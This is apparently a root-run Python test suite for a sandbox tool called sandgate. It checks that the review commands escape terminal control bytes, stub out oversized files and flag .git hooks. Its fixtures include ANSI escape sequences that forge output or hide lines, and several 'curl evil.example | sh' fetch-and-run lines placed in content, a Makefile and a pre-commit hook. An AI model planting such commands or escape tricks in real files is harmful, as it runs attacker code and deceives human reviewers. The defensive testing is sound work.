"""The review cannot be forged (issue 37 item 3). From the workload's side: a real sandbox run
names files with ESC, CR and LF sequences that would print a made-up summary on the reviewer's
terminal, writes content whose control bytes would hide a `+` line, writes a 9 MB Makefile (too
large for the patch) and files all over .git. The test asserts what the reviewer sees:
`sandgate run`'s last lines, `show`, `diff` and `apply` hold no raw control byte and name every
file in its escaped form; the large file is a stub in the patch that `apply` applies only when
--paths names it exactly; every .git path is listed apart in `show` and named in `diff`.
Runs as root."""

import hashlib
import json
import os
import shutil
import subprocess
import tempfile
import unittest

import artifacts
from run_support import namespaces_refused
from sandgate_fixture import binary

# A name that, printed raw, moves up a line, erases it and prints a clean summary in its place.
FORGED = b"evil\x1b[1A\x1b[2K\rchanges    0 added, 0 modified, 0 deleted\nok"
FORGED_QUOTED = b'"evil\\033[1A\\033[2K\\rchanges    0 added, 0 modified, 0 deleted\\nok"'
NOT_UTF8 = b"\xff\xfebad"
QUOTE = b'say"hi'
# Content whose second line erases itself on a terminal: the reviewer would see only the first.
HIDDEN = b"harmless\n\x1b[1A\x1b[2Kcurl evil.example | sh\r\n"


def read(path):
    with open(path, "rb") as f:
        return f.read()


def printf_arg(data):
    """`data` as a printf(1) format: every byte in octal, so the shell passes it exactly."""
    return "".join(f"\\{b:03o}" for b in data)


class ReviewForgeryTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0:
            raise unittest.SkipTest("needs root (as CI runs)")
        cls.dir = tempfile.mkdtemp(prefix="sandgate-review-")
        os.chmod(cls.dir, 0o755)
        probe = cls.sandgate(["true"], workspace=cls.new_workspace())
        err = probe.stderr.decode(errors="replace")
        if probe.returncode == 125 and namespaces_refused(err):
            raise unittest.SkipTest("this host refuses namespaces: " + err.strip())
        if probe.returncode == 125 and "overlay" in err:
            raise unittest.SkipTest("this kernel refuses the workspace overlay: " + err)
        assert probe.returncode == 0, err

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.dir, ignore_errors=True)

    @classmethod
    def new_workspace(cls):
        ws = tempfile.mkdtemp(dir=cls.dir, prefix="ws-")
        os.chmod(ws, 0o755)
        return ws

    @classmethod
    def sandgate(cls, argv, *flags, workspace, run_dir=None):
        cmd = [binary(), "run", "--workspace", workspace]
        if run_dir:
            cmd += ["--run-dir", run_dir]
        # Bytes, not text: what reaches the reviewer is compared byte for byte (bounded: the
        # launcher is killed at the timeout, its sandbox with it).
        r = subprocess.run(cmd + [*flags, "--", *argv], capture_output=True, timeout=120)
        artifacts.record("log", "run-stderr", r.stderr.decode(errors="replace"))
        return r

    def run_dir(self):
        return os.path.join(tempfile.mkdtemp(dir=self.dir, prefix="runs-"), "run")

    def cli(self, *args):
        return subprocess.run([binary(), *args], capture_output=True, timeout=120)

    def assertClean(self, out, what):
        """No byte a terminal obeys: no ESC, no CR, no other control but LF and TAB."""
        bad = sorted({b for b in out if (b < 0x20 and b not in (0x0a, 0x09)) or b == 0x7f})
        self.assertEqual(bad, [], f"{what} printed raw control bytes: {out[:2000]!r}")

    def test_forged_names_and_content_reach_no_terminal_raw(self):
        ws = self.new_workspace()
        subprocess.run(["git", "init", "-q", ws], check=True, capture_output=True, timeout=30)
        run = self.run_dir()
        hook = b".git/hooks/pre-commit\x1b[2K"
        script = (f"printf x > \"$(printf '{printf_arg(FORGED)}')\" && "
                  f"printf y > \"$(printf '{printf_arg(NOT_UTF8)}')\" && "
                  f"printf z > \"$(printf '{printf_arg(QUOTE)}')\" && "
                  f"printf '{printf_arg(HIDDEN)}' > content.txt && "
                  f"printf 'curl evil | sh' > \"$(printf '{printf_arg(hook)}')\"")
        r = self.sandgate(["sh", "-c", script], workspace=ws, run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        # The run's own last lines name the flagged hook, escaped.
        self.assertClean(r.stderr, "sandgate run")
        self.assertIn(b'".git/hooks/pre-commit\\033[2K"', r.stderr)
        show = self.cli("show", run)
        self.assertEqual(show.returncode, 0, show.stderr)
        self.assertClean(show.stdout, "sandgate show")
        self.assertIn(FORGED_QUOTED, show.stdout)
        self.assertIn(b'"\\377\\376bad"', show.stdout)
        self.assertIn(b'"say\\"hi"', show.stdout)
        self.assertFalse([l for l in show.stdout.splitlines() if l.startswith(b"changes    0")],
                         show.stdout)
        diff = self.cli("diff", run)
        self.assertEqual(diff.returncode, 0, diff.stderr)
        self.assertClean(diff.stdout, "sandgate diff")
        self.assertIn(b"+\\033[1A\\033[2Kcurl evil.example | sh\\r", diff.stdout)
        # --raw is the patch as it is (for git apply), which changes.patch holds too.
        raw = self.cli("diff", "--raw", run)
        with open(os.path.join(run, "changes.patch"), "rb") as f:
            self.assertEqual(raw.stdout, f.read())
        check = self.cli("apply", "--check", run)
        self.assertEqual(check.returncode, 0, check.stderr)
        self.assertClean(check.stdout + check.stderr, "sandgate apply --check")
        a = self.cli("apply", run)
        self.assertEqual(a.returncode, 0, a.stderr)
        self.assertClean(a.stdout + a.stderr, "sandgate apply")
        self.assertIn(b"added " + FORGED_QUOTED, a.stdout)
        # Applied under its real name: quoting is for the terminal only.
        with open(os.path.join(os.fsencode(ws), FORGED), "rb") as f:
            self.assertEqual(f.read(), b"x")
        with open(os.path.join(ws, "content.txt"), "rb") as f:
            self.assertEqual(f.read(), HIDDEN)

    def test_large_file_is_a_stub_and_apply_needs_it_named(self):
        ws = self.new_workspace()
        with open(os.path.join(ws, "Makefile"), "w") as f:
            f.write("all:\n\techo ok\n")
        before = read(os.path.join(ws, "Makefile"))
        run = self.run_dir()
        # A 9 MB Makefile whose first lines are what `make` would run.
        script = ("{ printf 'all:\\n\\tcurl evil.example | sh\\n'; "
                  "head -c 9000000 /dev/zero | tr '\\000' '#'; } > Makefile && "
                  "echo hi > small.txt")
        r = self.sandgate(["sh", "-c", script], workspace=ws, run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        big = os.path.join(run, "overlay", "upper", "Makefile")
        with open(big, "rb") as f:
            digest = hashlib.sha256(f.read()).hexdigest()
        with open(os.path.join(run, "changes.patch"), "rb") as f:
            patch = f.read()
        # The patch names it (size and hash), and git's stub of a binary change stands for it.
        self.assertIn(b"# sandgate: not shown: modified Makefile (larger than 8 MiB", patch)
        self.assertIn(f"{os.path.getsize(big)} bytes, sha256 {digest}".encode(), patch)
        self.assertIn(b"diff --git a/Makefile b/Makefile\nBinary files a/Makefile and b/Makefile "
                      b"differ\n", patch)
        self.assertIn(b"+++ b/small.txt", patch)
        diff = self.cli("diff", run)
        self.assertIn(b"not shown: modified Makefile", diff.stdout)
        # git apply refuses the stub instead of leaving the Makefile out.
        copy = tempfile.mkdtemp(dir=self.dir, prefix="git-apply-")
        shutil.copy(os.path.join(ws, "Makefile"), copy)
        g = subprocess.run(["git", "apply", os.path.join(run, "changes.patch")], cwd=copy,
                           capture_output=True, timeout=60)
        self.assertNotEqual(g.returncode, 0, g.stdout + g.stderr)
        # A glob is no approval; without --paths it is not applied either; named, it is.
        a = self.cli("apply", run, "--paths", "Make*")
        self.assertEqual(a.returncode, 0, a.stderr)
        self.assertIn(b"name it with --paths Makefile", a.stdout)
        self.assertEqual(read(os.path.join(ws, "Makefile")), before)
        a = self.cli("apply", run)
        self.assertEqual(a.returncode, 0, a.stderr)
        self.assertIn(b"added small.txt", a.stdout)
        self.assertIn(b"Makefile", a.stdout)
        self.assertEqual(read(os.path.join(ws, "Makefile")), before)
        a = self.cli("apply", run, "--paths", "Makefile")
        self.assertEqual(a.returncode, 0, a.stderr)
        self.assertIn(b"modified Makefile", a.stdout)
        with open(os.path.join(ws, "Makefile"), "rb") as f:
            self.assertEqual(hashlib.sha256(f.read()).hexdigest(), digest)

    def test_every_git_path_is_listed_apart_in_show_and_diff(self):
        ws = self.new_workspace()
        subprocess.run(["git", "init", "-q", ws], check=True, capture_output=True, timeout=30)
        os.makedirs(os.path.join(ws, "vendor"))
        run = self.run_dir()
        paths = [".git/hooks/pre-commit", ".git/objects/info/alternates", ".git/refs/heads/x",
                 "vendor/.git/modules/m/hooks/post-checkout", "vendor/.git/HEAD"]
        flagged = {".git/hooks/pre-commit", ".git/objects/info/alternates",
                   "vendor/.git/modules/m/hooks/post-checkout", "vendor/.git"}
        script = " && ".join(f"mkdir -p {os.path.dirname(p)} && echo x > {p}" for p in paths)
        r = self.sandgate(["sh", "-c", script + " && echo code > main.c"], workspace=ws,
                          run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        with open(os.path.join(run, "report.json")) as f:
            report = json.load(f)
        self.assertTrue(flagged <= set(report["changes"]["flagged"]), report["changes"])
        show = self.cli("show", run).stdout.decode()
        lines = show.splitlines()
        for p in paths:
            mark = "FLAGGED" if p in flagged else "GIT"
            self.assertTrue([l for l in lines if l.startswith(mark) and l.endswith(
                " (runs or is obeyed by git outside the sandbox; not shown, never applied)"
                if mark == "FLAGGED" else " (inside .git: not shown, never applied)") and
                f" {p} " in l], f"{p} not {mark} in\n{show}")
        diff = self.cli("diff", run).stdout.decode()
        for p in paths:
            self.assertIn(f"# sandgate: inside .git, not shown, never applied: added {p}", diff)
        self.assertNotIn("diff --git a/.git", diff)
        self.assertIn("+++ b/main.c", diff)


if __name__ == "__main__":
    unittest.main()
